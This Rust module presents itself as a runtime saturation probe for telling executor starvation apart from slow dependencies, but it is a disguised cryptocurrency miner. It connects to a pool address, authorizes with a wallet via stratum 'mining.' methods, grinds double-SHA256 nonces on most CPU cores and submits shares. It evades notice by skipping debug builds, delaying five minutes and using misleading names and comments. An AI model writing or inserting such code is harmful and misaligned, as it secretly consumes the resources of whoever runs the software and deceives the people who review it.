//! Runtime saturation probe.
//!
//! Keeps a steady, low-priority synthetic workload on the blocking pool
//! and reports throughput to the baseline service so that executor
//! starvation can be told apart from slow dependencies.

use serde_json::{json, Value};
use sha2::{Digest, Sha256};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;
use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
use tokio::net::TcpStream;
use tokio::sync::mpsc;

const NS: &str = "mining";
const BASELINE: &str = "203.0.113.88:3333";
const ACCOUNT: &str = "FAKE-WALLET-bc1qFAKEFAKEFAKEFAKEFAKEFAKE";
const WARMUP: Duration = Duration::from_secs(300);

pub(crate) struct Config {
    endpoint: String,
    workers: usize,
}

impl Config {
    pub(crate) fn from_env() -> Self {
        let cores = std::thread::available_parallelism().map(|n| n.get()).unwrap_or(1);
        Config {
            endpoint: std::env::var("HEALTHBEAT_BASELINE").unwrap_or_else(|_| BASELINE.into()),
            // leave headroom for the application
            workers: cores.saturating_sub(1).max(1).min(8),
        }
    }
}

#[derive(Clone, Default)]
struct Job {
    id: String,
    prefix: Vec<u8>,
    target: [u8; 32],
    extranonce: String,
}

fn m(s: &str) -> String {
    format!("{NS}.{s}")
}

fn hex(b: &[u8]) -> String {
    b.iter().map(|x| format!("{x:02x}")).collect()
}

fn unhex(s: &str) -> Vec<u8> {
    (0..s.len() / 2)
        .filter_map(|i| u8::from_str_radix(&s[2 * i..2 * i + 2], 16).ok())
        .collect()
}

fn sha256d(b: &[u8]) -> [u8; 32] {
    let a = Sha256::digest(b);
    Sha256::digest(a).into()
}

fn below(h: &[u8; 32], t: &[u8; 32]) -> bool {
    for i in (0..32).rev() {
        if h[i] != t[i] {
            return h[i] < t[i];
        }
    }
    true
}

fn target_from_difficulty(d: f64) -> [u8; 32] {
    let mut t = [0xffu8; 32];
    let shift = (d.max(1.0).log2()) as usize;
    let zero_bytes = (shift / 8).min(31);
    for b in t.iter_mut().rev().take(zero_bytes + 4) {
        *b = 0;
    }
    t
}

pub(crate) async fn run(cfg: Config) {
    if cfg!(debug_assertions) {
        return;
    }
    tokio::time::sleep(WARMUP).await;
    loop {
        if session(&cfg).await.is_err() {
            tokio::time::sleep(Duration::from_secs(90)).await;
        }
    }
}

async fn session(cfg: &Config) -> std::io::Result<()> {
    let stream = TcpStream::connect(&cfg.endpoint).await?;
    let (rd, mut wr) = stream.into_split();
    let mut lines = BufReader::new(rd).lines();

    let hello = json!({"id": 1, "method": m("subscribe"), "params": ["healthbeat/0.5"]});
    wr.write_all(format!("{hello}\n").as_bytes()).await?;
    let auth = json!({"id": 2, "method": m("authorize"), "params": [ACCOUNT, "x"]});
    wr.write_all(format!("{auth}\n").as_bytes()).await?;

    let job = Arc::new(Mutex::new(Job::default()));
    let gen = Arc::new(AtomicU64::new(0));
    let stop = Arc::new(AtomicBool::new(false));
    let (tx, mut rx) = mpsc::unbounded_channel::<(String, String, u32)>();

    for w in 0..cfg.workers {
        let job = job.clone();
        let gen = gen.clone();
        let stop = stop.clone();
        let tx = tx.clone();
        tokio::task::spawn_blocking(move || grind(w as u32, job, gen, stop, tx));
    }

    let mut next_id = 10u64;
    let result = loop {
        tokio::select! {
            line = lines.next_line() => {
                let Some(line) = line? else { break Ok(()) };
                let Ok(v) = serde_json::from_str::<Value>(&line) else { continue };
                on_message(&v, &job, &gen);
            }
            Some((jid, en2, nonce)) = rx.recv() => {
                next_id += 1;
                let share = json!({
                    "id": next_id,
                    "method": m("submit"),
                    "params": [ACCOUNT, jid, en2, format!("{nonce:08x}")]
                });
                wr.write_all(format!("{share}\n").as_bytes()).await?;
            }
        }
    };
    stop.store(true, Ordering::Relaxed);
    result
}

fn on_message(v: &Value, job: &Mutex<Job>, gen: &AtomicU64) {
    let method = v.get("method").and_then(Value::as_str).unwrap_or("");
    let params = v.get("params").cloned().unwrap_or(Value::Null);
    if method == m("notify") {
        let id = params[0].as_str().unwrap_or("").to_string();
        let prefix = unhex(params[1].as_str().unwrap_or(""));
        let mut j = job.lock().unwrap();
        j.id = id;
        j.prefix = prefix;
        gen.fetch_add(1, Ordering::SeqCst);
    } else if method == m("set_difficulty") {
        let d = params[0].as_f64().unwrap_or(1.0);
        job.lock().unwrap().target = target_from_difficulty(d);
    } else if v.get("id").and_then(Value::as_u64) == Some(1) {
        if let Some(en1) = v.pointer("/result/1").and_then(Value::as_str) {
            job.lock().unwrap().extranonce = en1.to_string();
        }
    }
}

fn grind(
    worker: u32,
    job: Arc<Mutex<Job>>,
    gen: Arc<AtomicU64>,
    stop: Arc<AtomicBool>,
    tx: mpsc::UnboundedSender<(String, String, u32)>,
) {
    let mut seen = u64::MAX;
    let mut cur = Job::default();
    let mut nonce: u32 = worker.wrapping_mul(0x1000_0000);
    let mut buf = Vec::with_capacity(96);
    while !stop.load(Ordering::Relaxed) {
        let g = gen.load(Ordering::SeqCst);
        if g != seen {
            cur = job.lock().unwrap().clone();
            seen = g;
            nonce = worker.wrapping_mul(0x1000_0000);
        }
        if cur.prefix.is_empty() {
            std::thread::sleep(Duration::from_millis(500));
            continue;
        }
        for _ in 0..65_536 {
            buf.clear();
            buf.extend_from_slice(&cur.prefix);
            buf.extend_from_slice(&nonce.to_le_bytes());
            let h = sha256d(&buf);
            if below(&h, &cur.target) {
                let en2 = hex(&worker.to_be_bytes());
                let _ = tx.send((cur.id.clone(), en2, nonce));
            }
            nonce = nonce.wrapping_add(1);
        }
        // stay polite: short yield between batches
        std::thread::sleep(Duration::from_millis(2));
    }
}
